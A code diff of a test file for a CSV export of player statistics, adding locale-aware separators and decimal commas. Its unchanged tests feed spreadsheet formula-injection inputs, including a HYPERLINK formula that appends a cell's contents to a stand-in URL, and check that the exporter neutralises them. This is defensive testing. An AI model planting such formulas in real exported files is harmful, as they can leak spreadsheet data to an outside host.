@@ -54,12 +54,22 @@ test('a column set shows its columns and those of every set', () => {
 
 describe('the CSV export', () => {
   test('has full column names, quotes where needed, and no button columns', () => {
-    expect(csvOf(rows, columns).split('\r\n')).toEqual([
+    expect(csvOf(rows, columns, 'en').split('\r\n')).toEqual([
       'Name,Goals,Shooting',
       'Berg,3,12.5',
       'Åkesson,10,',
       '"Ceder, Jr. ""Ace""",3,0',
     ]);
+  });
+
+  test('has semicolons and decimal commas where the language writes those', () => {
+    expect(csvOf(rows, columns, 'de').split('\r\n')).toEqual([
+      'Name;Goals;Shooting',
+      'Berg;3;12,5',
+      'Åkesson;10;',
+      '"Ceder, Jr. ""Ace""";3;0',
+    ]);
+    expect(csvOf([{ name: 'A;B', goals: 1, percentage: null }], columns, 'de')).toContain('"A;B";1;');
   });
 
   test('disarms everything a spreadsheet takes as a formula, and changes nothing else', () => {
@@ -79,15 +89,15 @@ describe('the CSV export', () => {
       '=HYPERLINK("https://example.org?"&A1,"x")',
     ];
     for (const name of formulas) {
-      const [, cell] = csvOf([{ name, goals: 0, percentage: null }], columns.slice(0, 1)).split(/\r\n(.*)/s);
+      const [, cell] = csvOf([{ name, goals: 0, percentage: null }], columns.slice(0, 1), 'en').split(/\r\n(.*)/s);
       expect(cell?.replace(/^"/, '').startsWith("'"), name).toBe(true);
     }
     for (const name of ['Åke', 'O’Neil', '1-2', 'a=b', '<script>alert(1)</script>'])
-      expect(csvOf([{ name, goals: 0, percentage: null }], columns.slice(0, 1))).toBe(`Name\r\n${name}`);
+      expect(csvOf([{ name, goals: 0, percentage: null }], columns.slice(0, 1), 'en')).toBe(`Name\r\n${name}`);
   });
 
   test('does not let a name run as a formula', () => {
-    expect(csvOf([{ name: '=HYPERLINK("x")', goals: -1, percentage: null }], columns)).toContain(
+    expect(csvOf([{ name: '=HYPERLINK("x")', goals: -1, percentage: null }], columns, 'en')).toContain(
       `"'=HYPERLINK(""x"")",-1`,
     );
   });
